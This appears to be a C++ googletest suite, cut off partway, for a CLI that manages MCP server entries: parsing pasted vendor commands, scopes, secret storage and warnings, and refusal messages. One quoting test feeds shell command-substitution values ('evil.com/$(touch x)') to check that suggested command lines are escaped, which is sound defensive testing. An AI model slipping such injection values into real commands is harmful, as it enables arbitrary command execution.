// The commands about declared servers, as people type and paste them. C1 C5 C6 C7.
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <map>

#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "support/capability.h"
#include "support/household.h"
#include "support/places.h"

namespace patchbay {
namespace {

namespace fs = std::filesystem;
using test::CommandResult;
using test::Household;
using test::json_of;
using testing::AllOf;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;
using testing::StartsWith;

const std::string fake = test::built("mode-server");

const Json& local_servers(const Json& own, const Household& house) {
  return own["projects"][house.project()]["mcpServers"];
}

struct Pasted {
  const char* name;
  std::vector<std::string> words;
  Json entry;
};
void PrintTo(const Pasted& one, std::ostream* out) { *out << one.name; }

class PastedInstruction : public testing::TestWithParam<Pasted> {};

// Lines of vendors' pages with the program's name replaced.
// compat: B5.1, B5.2, B5.3, B5.4, B5.5, B3.3, B6.12
TEST_P(PastedInstruction, AddsTheServer) {
  Household house;
  auto result = house.run(GetParam().words);
  ASSERT_EQ(result.code, 0) << result.err;
  EXPECT_THAT(result.out, AllOf(StartsWith("Added "), HasSubstr(" to local config\n"),
                                HasSubstr("File modified: " + house.own_file())));
  const auto own = house.own();
  EXPECT_EQ(own["version"], Json(1));
  const auto& servers = local_servers(own, house);
  ASSERT_EQ(servers.size(), 1u) << to_text(own);
  EXPECT_EQ((*servers.members().begin()).value, GetParam().entry) << to_text(servers);
  EXPECT_FALSE(fs::exists(house.project() + "/.mcp.json"));
}

const Json airtable{{"type", "stdio"},
                    {"command", "npx"},
                    {"args", Json::array({"-y", "airtable-mcp-server"})},
                    {"env", {{"AIRTABLE_API_KEY", "YOUR_KEY"}}}};
const Json two_variables{
    {"type", "stdio"}, {"command", "server"}, {"args", Json::array()}, {"env", {{"A", "1"}, {"B", "x=y"}}}};
const Json sentry{{"type", "http"}, {"url", "https://mcp.sentry.dev/mcp"}};

INSTANTIATE_TEST_SUITE_P(
    Lines, PastedInstruction,
    testing::Values(
        Pasted{"Http", {"mcp", "add", "--transport", "http", "sentry", "https://mcp.sentry.dev/mcp"}, sentry},
        Pasted{"FlagsBehind", {"mcp", "add", "sentry", "https://mcp.sentry.dev/mcp", "-t", "http"}, sentry},
        Pasted{"WithoutMcp", {"add", "-t", "http", "sentry", "https://mcp.sentry.dev/mcp"}, sentry},
        Pasted{"GlobalFlagInFront", {"-q", "add", "-t", "http", "sentry", "https://mcp.sentry.dev/mcp"}, sentry},
        Pasted{"GlobalFlagBeforeACommand",
               {"-q", "--timeout", "3", "add", "own", "--", "server", "-y"},
               {{"type", "stdio"}, {"command", "server"}, {"args", Json::array({"-y"})}}},
        Pasted{"GlobalFlagBehindMcp",
               {"mcp", "--no-color", "add", "own", "--", "server", "-y"},
               {{"type", "stdio"}, {"command", "server"}, {"args", Json::array({"-y"})}}},
        Pasted{"UrlAlone", {"mcp", "add", "sentry", "https://mcp.sentry.dev/mcp"}, sentry},
        Pasted{"Sse",
               {"mcp", "add", "--transport", "sse", "asana", "https://mcp.asana.com/sse"},
               {{"type", "sse"}, {"url", "https://mcp.asana.com/sse"}}},
        Pasted{
            "EnvBehindName",
            {"mcp", "add", "airtable", "--env", "AIRTABLE_API_KEY=YOUR_KEY", "--", "npx", "-y", "airtable-mcp-server"},
            airtable},
        Pasted{"EnvBeforeTransport",
               {"mcp", "add", "--env", "AIRTABLE_API_KEY=YOUR_KEY", "--transport", "stdio", "airtable", "--", "npx",
                "-y", "airtable-mcp-server"},
               airtable},
        Pasted{"EnvRightBeforeName",
               {"mcp", "add", "-e", "AIRTABLE_API_KEY=YOUR_KEY", "airtable", "--", "npx", "-y", "airtable-mcp-server"},
               airtable},
        Pasted{"SeveralVariables", {"mcp", "add", "-e", "A=1", "B=x=y", "many", "--", "server"}, two_variables},
        Pasted{"VariablesApart", {"mcp", "add", "many", "-e", "A=1", "-e", "B=x=y", "--", "server"}, two_variables},
        Pasted{"CommandWithoutDashes",
               {"mcp", "add", "files", "npx", "files-server", "/tmp"},
               {{"type", "stdio"}, {"command", "npx"}, {"args", Json::array({"files-server", "/tmp"})}}},
        Pasted{"DashesInTheMiddle",
               {"mcp", "add", "files", "npx", "--", "-y", "files-server"},
               {{"type", "stdio"}, {"command", "npx"}, {"args", Json::array({"-y", "files-server"})}}},
        Pasted{"FlagsOfTheCommandAreItsOwn",
               {"mcp", "add", "own", "--", "server", "--scope", "x", "--json", "-e", "--", "add"},
               {{"type", "stdio"},
                {"command", "server"},
                {"args", Json::array({"--scope", "x", "--json", "-e", "--", "add"})}}},
        Pasted{"FlagsOfTheCommandWithoutDashes",
               {"mcp", "add", "pw", "npx", "-y", "@playwright/mcp@latest", "--scope", "x"},
               {{"type", "stdio"},
                {"command", "npx"},
                {"args", Json::array({"-y", "@playwright/mcp@latest", "--scope", "x"})}}},
        Pasted{"DashesBeforeTheName",
               {"mcp", "add", "-e", "AIRTABLE_API_KEY=YOUR_KEY", "--", "airtable", "npx", "-y", "airtable-mcp-server"},
               airtable},
        Pasted{"DashesBeforeTheNameOfAUrl",
               {"mcp", "add", "-t", "http", "--", "sentry", "https://mcp.sentry.dev/mcp"},
               sentry},
        Pasted{
            "StreamableHttp", {"mcp", "add", "-t", "streamable-http", "sentry", "https://mcp.sentry.dev/mcp"}, sentry},
        Pasted{"TheLastTransportAndScopeCount",
               {"mcp", "add", "-t", "sse", "-s", "user", "-t", "http", "-s", "local", "sentry",
                "https://mcp.sentry.dev/mcp"},
               sentry},
        Pasted{"AVariableForTheUrl",
               {"mcp", "add", "-t", "http", "s", "${BASE:-https://h.example}/mcp"},
               {{"type", "http"}, {"url", "${BASE:-https://h.example}/mcp"}}},
        Pasted{"AVariableInTheUrl",
               {"mcp", "add", "s", "https://${HOST}/mcp"},
               {{"type", "http"}, {"url", "https://${HOST}/mcp"}}},
        Pasted{"LoudUrl",
               {"mcp", "add", "s", "HTTPS://h.example/mcp"},
               {{"type", "http"}, {"url", "HTTPS://h.example/mcp"}}},
        Pasted{"BlanksAroundTheUrl", {"mcp", "add", "sentry", " https://mcp.sentry.dev/mcp "}, sentry},
        Pasted{"JsonWithItsName", {"mcp", "add-json", "p", R"({"p":{"command":"x"}})"}, {{"command", "x"}}},
        Pasted{"JsonWithASecret",
               {"mcp", "add-json", "p",
                R"({"type":"http","url":"https://h","oauth":{"clientId":"a","clientSecret":"b"}})"},
               {{"type", "http"}, {"url", "https://h"}, {"oauth", {{"clientId", "a"}}}}},
        Pasted{"BracketsAreNoList",
               {"mcp", "add", "odd", "server", "[a,b]"},
               {{"type", "stdio"}, {"command", "server"}, {"args", Json::array({"[a,b]"})}}},
        Pasted{"NamedLikeACommand",
               {"mcp", "add", "list", "--", "serve", "tools"},
               {{"type", "stdio"}, {"command", "serve"}, {"args", Json::array({"tools"})}}},
        Pasted{"Headers",
               {"mcp", "add", "--transport", "http", "secure", "https://api.example.com/mcp", "--header",
                "Authorization: Bearer token", "-H", "X-Key:value"},
               {{"type", "http"},
                {"url", "https://api.example.com/mcp"},
                {"headers", {{"Authorization", "Bearer token"}, {"X-Key", "value"}}}}},
        Pasted{"HeadersInFront",
               {"mcp", "add", "-t", "http", "-H", "A: 1", "B: 2", "secure", "https://api.example.com/mcp"},
               {{"type", "http"}, {"url", "https://api.example.com/mcp"}, {"headers", {{"A", "1"}, {"B", "2"}}}}},
        Pasted{"SignIn",
               {"mcp", "add", "--transport", "http", "--client-id", "me", "--callback-port", "8080", "s",
                "https://mcp.example.com/mcp"},
               {{"type", "http"},
                {"url", "https://mcp.example.com/mcp"},
                {"oauth", {{"clientId", "me"}, {"callbackPort", 8080}}}}},
        Pasted{"SignInThroughTheOrganisation",
               {"mcp", "add", "--transport", "http", "--xaa", "s", "https://mcp.example.com/mcp"},
               {{"type", "http"}, {"url", "https://mcp.example.com/mcp"}, {"oauth", {{"xaa", true}}}}},
        Pasted{"Json",
               {"mcp", "add-json", "weather",
                R"({"type":"http","url":"https://api.weather.com/mcp","headers":{"A":"b"}})"},
               {{"type", "http"}, {"url", "https://api.weather.com/mcp"}, {"headers", {{"A", "b"}}}}},
        Pasted{"JsonIsKeptAsItIs",
               {"mcp", "add-json", "db", R"({"command":"db","cwd":"/srv","timeout":5000,"vendorKey":[1]})"},
               {{"command", "db"}, {"cwd", "/srv"}, {"timeout", 5000}, {"vendorKey", Json::array({1})}}},
        Pasted{"JsonOfAWebSocket",
               {"mcp", "add-json", "live", R"({"type":"ws","url":"wss://live.example/mcp"})"},
               {{"type", "ws"}, {"url", "wss://live.example/mcp"}}}),
    [](const auto& info) { return info.param.name; });

// compat: B5.3, B6.12
TEST(Declare, AVariableOfSignInIsNotWritten) {
  Household house;
  auto options = house.options();
  options.env["MCP_OAUTH_CALLBACK_PORT"] = "7777";
  const auto added = test::run_program(
      {test::built("patchbay"), "mcp", "add", "-t", "http", "--client-id", "me", "s", "https://mcp.example.com/mcp"},
      options);
  ASSERT_EQ(added.code, 0) << added.err;
  EXPECT_EQ(local_servers(house.own(), house)["s"]["oauth"], Json({{"clientId", "me"}}));
}

// compat: B5.11
TEST(Declare, XaaNeedsAnIdentityProvider_AndIsNotForAProject) {
  Household house;
  const auto without = house.run({"add", "-t", "http", "--xaa", "s", "https://mcp.example.com/mcp"});
  EXPECT_EQ(without.code, 0) << without.err;
  EXPECT_THAT(without.err, HasSubstr("patchbay mcp xaa setup"));
  const auto shared = house.run({"add", "-s", "project", "-t", "http", "--xaa", "p", "https://mcp.example.com/mcp"});
  EXPECT_EQ(shared.code, 2);
  EXPECT_THAT(shared.err, HasSubstr("--scope local or --scope user"));
  EXPECT_FALSE(house.tree.has("project/.mcp.json"));
  ASSERT_EQ(house.run({"mcp", "xaa", "setup", "--issuer", "https://login.example.com", "--client-id", "c"}).code, 0);
  const auto with = house.run({"add", "-t", "http", "--xaa", "t", "https://mcp.example.com/mcp"});
  EXPECT_EQ(with.code, 0);
  EXPECT_THAT(with.err, Not(HasSubstr("setup")));
  EXPECT_THAT(house.run({"add", "--xaa", "local", "--", "true"}).err, HasSubstr("apply only to URLs"));
}

// compat: B5.3, B6.12
TEST(Declare, ClientSecretIsKeptApartFromTheEntry) {
  Household house;
  auto options = house.options();
  options.env["MCP_CLIENT_SECRET"] = "s3cret";
  const auto run = [&](std::vector<std::string> words) {
    words.insert(words.begin(), test::built("patchbay"));
    return test::run_program(words, options);
  };
  auto added = run({"mcp", "add", "-t", "http", "--client-id", "me", "--client-secret", "s", "https://h.example/mcp"});
  ASSERT_EQ(added.code, 0) << added.err;
  EXPECT_THAT(added.out + added.err, Not(HasSubstr("s3cret")));
  EXPECT_THAT(house.tree.read("home/.config/patchbay/config.json"), Not(HasSubstr("s3cret")));
  const auto stored = [&] { return test::json_of(run({"secret", "list", "--json"}))["secrets"]; };
  ASSERT_EQ(stored().as_array().size(), 1u);
  EXPECT_THAT(std::string(stored().as_array().front()["name"].as_text()), testing::StartsWith("client-secret:s:"));
  EXPECT_EQ(stored().as_array().front()["place"], Json("file"));
  for (const auto& file : house.files_at_home()) {
    EXPECT_THAT(house.tree.read("home/" + file), Not(HasSubstr("s3cret"))) << file;
  }
  ASSERT_EQ(run({"remove", "s"}).code, 0);
  EXPECT_EQ(stored(), Json::array());
  EXPECT_THAT(run({"add", "-t", "http", "--client-secret", "s", "https://h.example/mcp"}).err,
              HasSubstr("give it with --client-id"));
}

// The file is going to be committed.
TEST(Declare, ASecretInAFileOfTheProjectIsWarnedAbout) {
  Household house;
  auto remote = house.run(
      {"add", "-s", "project", "q", "-t", "http", "https://x.example/mcp", "-H", "Authorization: Bearer sk-live-123"});
  EXPECT_EQ(remote.code, 0);
  EXPECT_THAT(remote.err, AllOf(HasSubstr("headers.Authorization looks like a secret"),
                                HasSubstr("Write Bearer ${Q_AUTHORIZATION} instead"),
                                HasSubstr("patchbay remove q --scope project"), Not(HasSubstr("sk-live"))));
  const auto query =
      house.run({"add", "-s", "project", "q4", "-t", "http", "https://x.example/mcp?api_key=sk-live-456"});
  EXPECT_THAT(query.err, AllOf(HasSubstr("url (api_key) looks like a secret"),
                               HasSubstr("add it again with 'https://x.example/mcp?api_key=${Q4_API_KEY}'"),
                               Not(HasSubstr("sk-live"))));
  const auto json =
      house.run({"add-json", "-s", "project", "q5", R"({"type":"http","url":"https://x.example/?key=abc"})"});
  EXPECT_EQ(json.code, 0);
  EXPECT_THAT(json.err, HasSubstr("Write https://x.example/?key=${Q5_KEY} instead"));
  EXPECT_THAT(house.run({"add", "-s", "project", "-t", "http", "g", "https://ghp_0123456789abcdef@x.example/mcp"}).err,
              HasSubstr("url (user) looks like a secret"));
  EXPECT_THAT(house.run({"lint"}).out, HasSubstr("Write https://${G_USER}@x.example/mcp instead"));
  EXPECT_THAT(house.run({"add", "-s", "project", "r", "-e", "API_TOKEN=abc", "--", "x"}).err,
              HasSubstr("env.API_TOKEN looks like a secret"));
  EXPECT_EQ(
      json_of(house.run({"add", "--json", "-s", "project", "t", "-e", "API_TOKEN=abc", "--", "x"}))["notes"].size(),
      1u);
  for (const auto& words :
       {std::vector<std::string>{"add", "-s", "project", "u", "-e", "API_TOKEN=${API_TOKEN}", "--", "x"},
        {"add", "v", "-e", "API_TOKEN=abc", "--", "x"}}) {
    EXPECT_THAT(house.run(words).err, Not(HasSubstr("secret")));
  }
}

TEST(Declare, AnAddressWithoutItsSchemeIsNotACommand) {
  Household house;
  for (const std::string word : {"mcp.sentry.dev/mcp", "localhost:3000/mcp", "127.0.0.1:8080/mcp", "h.example:1/a",
                                 "localhost:3000", "127.0.0.1:8080"}) {
    const auto result = house.run({"add", "s", word});
    EXPECT_EQ(result.code, 2) << word;
    EXPECT_THAT(result.err, AllOf(HasSubstr("\"" + word + "\" looks like a URL; write https://" + word),
                                  HasSubstr("patchbay add s -- " + word)));
  }
  for (const std::string word : {"http:/h.example/mcp", "http:h.example/mcp"}) {
    EXPECT_THAT(house.run({"add", "s", word}).err,
                HasSubstr("\"" + word + "\" is not a URL; write http://h.example/mcp\n"));
  }
  // The line that is suggested can be pasted, and says all that was said.
  EXPECT_THAT(house.run({"add", "-s", "user", "-e", "A=b c", "s5", "evil.com/$(touch x)"}).err,
              HasSubstr("patchbay add --scope user --env 'A=b c' s5 -- 'evil.com/$(touch x)'\n"));
  EXPECT_THAT(house.run({"add", "-s", "user", "-H", "A: b", "w", "wss://h/'$(touch x)"}).err,
              HasSubstr(R"~(patchbay add-json --scope user w '{"type":"ws","url":"wss://h/'\''$(touch x)",)~"
                        R"~("headers":{"A":"b"}}')~"));
  EXPECT_EQ(house.own(), Json());
  const std::vector<std::vector<std::string>> commands{
      {"add", "a", "bin/server.js"}, {"add", "b", "./mcp.dev/server"}, {"add", "c", "/opt/x.dev/serve"},
      {"add", "d", "server.py"},     {"add", "e", "npx", "pkg.io/x"},  {"add", "f", "--", "x.dev/mcp"},
      {"add", "g", "v1.2/server"}};
  for (const auto& words : commands) EXPECT_EQ(house.run(words).code, 0) << words.back();
  for (const std::string url : {"x/mcp", "mcp.sentry.dev/mcp"}) {
    const auto result = house.run({"add-json", "j", to_text(Json{{"type", "http"}, {"url", url}})});
    EXPECT_EQ(result.code, 2) << url;
    EXPECT_THAT(result.err, HasSubstr("must begin with https://"));
  }
  EXPECT_EQ(house.run({"add-json", "k", R"({"type":"http","url":"${BASE}/mcp"})"}).code, 0);
}

// compat: B3.20
TEST(Declare, BlanksThatAreLeftOutAreReported) {
  Household house;
  for (const auto& words : std::vector<std::vector<std::string>>{
           {"add", "one", " https://h.example/mcp "},
           {"add-json", "two", R"({"type": "http", "url": " https://h.example/mcp "})"}}) {
    const auto added = house.run(words);
    EXPECT_EQ(added.code, 0);
    EXPECT_THAT(added.out + added.err, HasSubstr("blanks around the URL were left out"));
    EXPECT_EQ(local_servers(house.own(), house)[words[1]]["url"], Json("https://h.example/mcp"));
  }
}

TEST(Declare, JsonComesFromStandardInput) {
  Household house;
  ASSERT_EQ(house.run({"add-json", "a", "-"}, {}, "{ \"command\": \"x\", } // mine\n").code, 0);
  EXPECT_EQ(local_servers(house.own(), house)["a"], Json({{"command", "x"}}));
}

// compat: B1.3, C1.a
TEST(Declare, EachScopeHasItsPlace) {
  Household house;
  ASSERT_EQ(house.run({"add", "-s", "user", "u", "--", "x"}).code, 0);
  ASSERT_EQ(house.run({"add", "-s", "local", "l", "--", "x"}).code, 0);
  auto shared = house.run({"add", "-s", "project", "p", "--", "x"});
  ASSERT_EQ(shared.code, 0) << shared.err;
  EXPECT_THAT(shared.out, HasSubstr("File modified: " + house.project() + "/.mcp.json\n"));
  const Json entry{{"type", "stdio"}, {"command", "x"}, {"args", Json::array()}};
  EXPECT_EQ(house.own()["mcpServers"], Json({{"u", entry}}));
  EXPECT_EQ(local_servers(house.own(), house), Json({{"l", entry}}));
  EXPECT_EQ(house.project_json(), Json({{"mcpServers", {{"p", entry}}}}));
  // Whoever typed it has agreed to it.
  EXPECT_TRUE(house.own()["projects"][house.project()]["approved"].find("p"));
  EXPECT_THAT(house.run({"list"}).out, Not(HasSubstr("awaiting")));
}

TEST(Declare, ProjectFileIsTheNearestOneUpToTheRootOfTheRepository) {
  Household house;
  house.tree.directory("project/.git");
  house.tree.directory("project/a/b");
  ASSERT_EQ(house.run({"add", "-s", "project", "one", "--", "x"}, "a/b").code, 0);
  EXPECT_TRUE(house.project_json()["mcpServers"].find("one"));
  house.tree.file("project/a/.mcp.json", "{}");
  ASSERT_EQ(house.run({"add", "-s", "project", "two", "--", "x"}, "a/b").code, 0);
  EXPECT_TRUE(house.project_json("a/.mcp.json")["mcpServers"].find("two"));
  // And it is taken out of where it stands.
  auto removed = house.run({"remove", "one"}, "a/b");
  EXPECT_EQ(removed.code, 0) << removed.err;
  EXPECT_FALSE(house.project_json()["mcpServers"].find("one"));
  // The local scope is the repository's, wherever in it one stands.
  ASSERT_EQ(house.run({"add", "here", "--", "x"}, "a/b").code, 0);
  EXPECT_TRUE(local_servers(house.own(), house).find("here"));
}

TEST(Declare, FileKeepsItsCommentsAndItsBareMap) {
  Household house;
  house.tree.file("project/.mcp.json", "// ours\n{\n\t\"old\": { \"command\": \"x\" }, // stays\n}\n");
  ASSERT_EQ(house.run({"add", "-s", "project", "new", "--", "y"}).code, 0);
  EXPECT_EQ(
      house.tree.read("project/.mcp.json"),
      "// ours\n{\n\t\"old\": { \"command\": \"x\" }, // stays\n\t\"new\": { \"type\": \"stdio\", \"command\": \"y\", "
      "\"args\": [] },\n}\n");
  ASSERT_EQ(house.run({"remove", "new"}).code, 0);
  EXPECT_EQ(house.tree.read("project/.mcp.json"), "// ours\n{\n\t\"old\": { \"command\": \"x\" }, // stays\n}\n");
}

struct Refused {
  const char* name;
  std::vector<std::string> words;
  std::string message;
};
void PrintTo(const Refused& one, std::ostream* out) { *out << one.name; }

class RefusedAdd : public testing::TestWithParam<Refused> {};

// compat: B2.5, B2.6, B5.1, B5.2, B5.4
TEST_P(RefusedAdd, SaysWhyAndWritesNothing) {
  Household house;
  auto result = house.run(GetParam().words);
  EXPECT_EQ(result.code, 2) << result.out;
  EXPECT_THAT(result.err, HasSubstr(GetParam().message));
  EXPECT_EQ(result.out, "");
  EXPECT_THAT(house.files_at_home(), IsEmpty());
}

INSTANTIATE_TEST_SUITE_P(
    Table, RefusedAdd,
    testing::Values(
        Refused{"Name", {"add", "a b", "--", "x"}, "Invalid name a b. Names can only contain letters"},
        Refused{"NameWithDot", {"mcp", "add", "a.b", "--", "x"}, "Invalid name a.b."},
        Refused{"EmptyName", {"add", "", "--", "x"}, "the name is empty"},
        Refused{"ReservedName", {"add", "workspace", "--", "x"}, "the name is reserved"},
        Refused{"ReservedNameWithBlank", {"add-json", "Claude Preview", "{\"command\":\"x\"}"}, "the name is reserved"},
        Refused{"NoTarget", {"add", "a"}, "the URL or the command of \"a\" is missing"},
        Refused{"NothingBehindDashes", {"add", "a", "--"}, "the URL or the command of \"a\" is missing"},
        Refused{"Variable", {"add", "-e", "KEY", "a", "--", "x"}, "Invalid environment variable format: KEY"},
        Refused{
            "Header", {"add", "-t", "http", "a", "https://h/", "-H", "broken"}, "Invalid header format: \"broken\""},
        Refused{"WebSocketTransport",
                {"mcp", "add", "-t", "ws", "a", "wss://h/"},
                "to add a ws server: patchbay mcp add-json NAME"},
        Refused{
            "WebSocketUrl", {"add", "a", "wss://h/"}, "patchbay add-json a '{\"type\":\"ws\",\"url\":\"wss://h/\"}'"},
        Refused{"UnknownScheme", {"add", "a", "ftp://x"}, "there are no servers at ftp:// URLs; write https://"},
        Refused{"UnknownSchemeOfAType",
                {"add", "-t", "http", "a", "ftp://x"},
                "a server of type http is at an https:// or http:// URL, not at ftp://"},
        Refused{"NoUrl", {"add", "-t", "http", "a", "server"}, "\"server\" is not a URL"},
        Refused{"NoScheme",
                {"add", "-t", "http", "a", "mcp.sentry.dev/mcp"},
                "and a server of type http needs one: write https://mcp.sentry.dev/mcp (or http://)"},
        Refused{"TwoUrls", {"add", "-t", "http", "a", "https://h/", "https://i/"}, "\"https://i/\" follows it"},
        Refused{"SlipOfAFlag", {"add", "a", "npx", "--scoep", "x"}, "write -- before the command of the server"},
        Refused{"Scope", {"add", "-s", "global", "a", "--", "x"}, "--scope"},
        Refused{"NotUtf8", {"add", "a", "--", "\xFF"}, "not valid UTF-8"},
        Refused{"NotJson", {"add-json", "a", "{\"command\":}"}, "Invalid JSON at line 1, column 12"},
        Refused{"NoObject", {"add-json", "a", "[]"}, "expected the JSON object of one server"},
        Refused{"WrappedJson", {"add-json", "a", "{\"mcpServers\":{}}"}, "without \"mcpServers\""},
        Refused{"WrongType", {"add-json", "a", "{\"command\":1}"}, "\"command\" must be a string"},
        Refused{"UrlWithoutType",
                {"add-json", "a", "{\"url\":\"https://h/\"}"},
                "has a \"url\" but no \"type\"; add \"type\": \"http\" (or \"sse\" / \"ws\") to this entry"},
        Refused{"InternalType", {"add-json", "a", "{\"type\":\"sdk\"}"}, "sdk"},
        Refused{"UnknownCommand", {"mcp", "ad"}, "unknown command \"mcp ad\"; did you mean \"mcp add\"?"}),
    [](const auto& info) { return info.param.name; });

// compat: B5.4
TEST(Declare, NameThatIsThereIsNotReplaced) {
  Household house;
  for (const std::string scope : {"local", "project", "user"}) {
    ASSERT_EQ(house.run({"add", "-s", scope, "a", "--", "x"}).code, 0);
    auto again = house.run({"mcp", "add", "-s", scope, "a", "--", "y"});
    EXPECT_EQ(again.code, 2);
    EXPECT_THAT(again.err, AllOf(HasSubstr("MCP server a already exists in " + scope + " config"),
                                 HasSubstr("patchbay remove a --scope " + scope)));
  }
}

// compat: C5.c
TEST(Declare, FileThatDoesNotParseIsLeftAsItIs) {
  Household house;
  house.tree.file("project/.mcp.json", "{\n  \"mcpServers\": {,}\n}\n");
  auto result = house.run({"add", "-s", "project", "a", "--", "x"});
  EXPECT_EQ(result.code, 2);
  EXPECT_THAT(result.err, AllOf(HasSubstr(".mcp.json:2:"), HasSubstr("fix the file")));
  EXPECT_EQ(house.tree.read("project/.mcp.json"), "{\n  \"mcpServers\": {,}\n}\n");
  house.tree.file("home/.config/patchbay/config.json", "{\"version\": 2}");
  EXPECT_THAT(house.run({"add", "a", "--", "x"}).err, HasSubstr("use a newer patchbay"));
}

TEST(Declare, AnswersAreJsonWhenAskedFor) {
  Household house;
  EXPECT_EQ(json_of(house.run({"add", "--json", "a", "--", "x"})), Json({{"name", "a"},
                                                                         {"scope", "local"},
                                                                         {"file", house.own_file()},
                                                                         {"transport", "stdio"},
                                                                         {"changed", true},
                                                                         {"notes", Json::array()}}));
  EXPECT_EQ(json_of(house.run({"--json", "add", "front", "--", "x", "-y"}))["name"], Json("front"));
  EXPECT_EQ(json_of(house.run({"mcp", "--json", "add", "middle", "--", "x", "-y"}))["name"], Json("middle"));
  EXPECT_EQ(json_of(house.run({"disable", "a", "--json"}))["changed"], Json(true));
  EXPECT_EQ(json_of(house.run({"enable", "a", "--json"}))["servers"], Json::array({"a"}));
  EXPECT_EQ(json_of(house.run({"remove", "a", "--json"}))["scope"], Json("local"));
  auto failed = house.run({"remove", "a", "--json"});
  EXPECT_EQ(failed.code, 2);
  EXPECT_THAT(json_of(failed)["error"]["message"].as_text(), HasSubstr("there is no server called \"a\""));
}

// ---- remove

// compat: B5.9
TEST(Remove, NameInSeveralScopesAsksForTheScope) {
  Household house;
  ASSERT_EQ(house.run({"add", "-s", "local", "a", "--", "x"}).code, 0);
  ASSERT_EQ(house.run({"add", "-s", "user", "a", "--", "x"}).code, 0);
  auto unclear = house.run({"mcp", "remove", "a"});
  EXPECT_EQ(unclear.code, 2);
  EXPECT_THAT(unclear.err, AllOf(HasSubstr("exists in multiple scopes"), HasSubstr("patchbay remove a --scope local"),
                                 HasSubstr("patchbay remove a --scope user")));
  auto removed = house.run({"mcp", "remove", "a", "-s", "user"});
  EXPECT_EQ(removed.code, 0) << removed.err;
  EXPECT_THAT(removed.out, HasSubstr("Removed MCP server a from user config\nFile modified: " + house.own_file()));
  EXPECT_EQ(house.own()["mcpServers"], Json::object());
  EXPECT_EQ(house.run({"remove", "a"}).code, 0);
  EXPECT_EQ(local_servers(house.own(), house), Json::object());
}

TEST(Remove, WhatIsNotThereIsGuessed) {
  Household house;
  ASSERT_EQ(house.run({"add", "sentry", "--", "x"}).code, 0);
  EXPECT_THAT(house.run({"remove", "sentri"}).err,
              HasSubstr("there is no server called \"sentri\"; did you mean \"sentry\"?"));
  EXPECT_THAT(house.run({"remove", "sentry", "-s", "user"}).err, HasSubstr("in user config; it is in local config"));
}

// compat: B1.2
TEST(Remove, FilesOfOtherProgramsAreNamedAndNotWritten) {
  Household house;
  const std::string theirs = "{\n  \"mcpServers\": {\n    \"a\": { \"command\": \"x\" }\n  }\n}\n";
  house.tree.file("home/.claude.json", theirs);
  auto result = house.run({"remove", "a"});
  EXPECT_EQ(result.code, 2);
  EXPECT_THAT(result.err, AllOf(HasSubstr(house.home() + "/.claude.json:3"), HasSubstr("patchbay disable a")));
  ASSERT_EQ(house.run({"disable", "a"}).code, 0);
  EXPECT_THAT(house.run({"list"}).out, HasSubstr("disabled"));
  EXPECT_EQ(house.tree.read("home/.claude.json"), theirs);
}

// ---- enable and disable

// compat: B5.17
TEST(Switch, OffInThisProjectOrEverywhere) {
  Household house;
  house.tree.directory("project/other");
  ASSERT_EQ(house.run({"add", "-s", "user", "a", "--", "x"}).code, 0);
  const auto state = [&](const std::string& below = {}) {
    return std::string(json_of(house.run({"list", "--json"}, below))["servers"].as_array().at(0)["reason"].as_text());
  };
  EXPECT_EQ(state(), "not started");
  EXPECT_THAT(house.run({"disable", "a"}).out, HasSubstr("Disabled a in this project"));
  EXPECT_EQ(state(), "disabled");
  EXPECT_EQ(state("other"), "not started");
  EXPECT_THAT(house.run({"disable", "a"}).out, HasSubstr("Already disabled: a"));
  EXPECT_THAT(house.run({"enable", "a"}).out, HasSubstr("Enabled a"));
  EXPECT_EQ(state(), "not started");
  ASSERT_EQ(house.run({"disable", "a", "-s", "user"}).code, 0);
  EXPECT_EQ(state("other"), "disabled");
  EXPECT_EQ(state(), "disabled");
  // On here, and off everywhere else.
  ASSERT_EQ(house.run({"enable", "a", "-s", "local"}).code, 0);
  EXPECT_EQ(state(), "not started");
  EXPECT_EQ(state("other"), "disabled");
  ASSERT_EQ(house.run({"disable", "a"}).code, 0);
  EXPECT_EQ(state(), "disabled");
  ASSERT_EQ(house.run({"enable", "a"}).code, 0);
  EXPECT_EQ(state("other"), "not started");
  EXPECT_EQ(house.run({"disable", "a", "-s", "project"}).code, 2);
  EXPECT_THAT(house.run({"disable", "b"}).err, HasSubstr("there is no server called \"b\""));
}

// What another file says stays there: ours says otherwise.
TEST(Switch, EntryThatSwitchesItselfOffIsSwitchedOnInOurFileAlone) {
  Household house;
  ASSERT_EQ(house.run({"add-json", "a", R"({"command":"x","disabled":true})"}).code, 0);
  ASSERT_EQ(house.run({"enable", "a"}).code, 0);
  EXPECT_EQ(local_servers(house.own(), house)["a"], Json({{"command", "x"}}));
  const std::string theirs =
      R"({"mcpServers":{"b":{"command":"x","disabled":true},"c":{"command":"y"}},"projects":{")" + house.project() +
      R"(":{"disabledMcpServers":["c"]}}})";
  house.tree.file("home/.claude.json", theirs);
  for (const std::string name : {"b", "c"}) {
    EXPECT_THAT(house.run({"get", name}).out, HasSubstr("patchbay enable " + name));
    auto result = house.run({"enable", name});
    EXPECT_EQ(result.code, 0) << result.err;
    EXPECT_THAT(result.out, HasSubstr("Enabled " + name + "\n  runs: " + (name == "b" ? "x" : "y") +
                                      "\nFile modified: " + house.own_file()));
    EXPECT_THAT(house.run({"get", name}).out, HasSubstr("Status: not started"));
    EXPECT_THAT(house.run({"enable", name}).out, HasSubstr("Already enabled: " + name));
    ASSERT_EQ(house.run({"disable", name}).code, 0);
    EXPECT_THAT(house.run({"get", name}).out, HasSubstr("Disabled because: disabled for this project"));
    ASSERT_EQ(house.run({"enable", name}).code, 0);
  }
  EXPECT_EQ(house.tree.read("home/.claude.json"), theirs);
}

TEST(Switch, AProjectsFileIsNotWrittenAndAnApprovalStays) {
  Household house;
  const std::string shared =
      "{\"mcpServers\": {\"off\": {\"command\": \"" + fake + "\", \"args\": [\"good\"], \"disabled\": true}}}";
  house.tree.file("project/.mcp.json", shared);
  ASSERT_EQ(house.run({"approve", "off"}).code, 0);
  EXPECT_THAT(house.run({"call", "off/echo", "text=hello"}).err, HasSubstr("patchbay enable off"));
  auto off = house.run({"tools", "off"});
  EXPECT_EQ(off.code, 2);
  EXPECT_THAT(off.err, HasSubstr("patchbay enable off"));
  ASSERT_EQ(house.run({"enable", "off"}).code, 0);
  auto call = house.run({"call", "off/echo", "text=hello"});
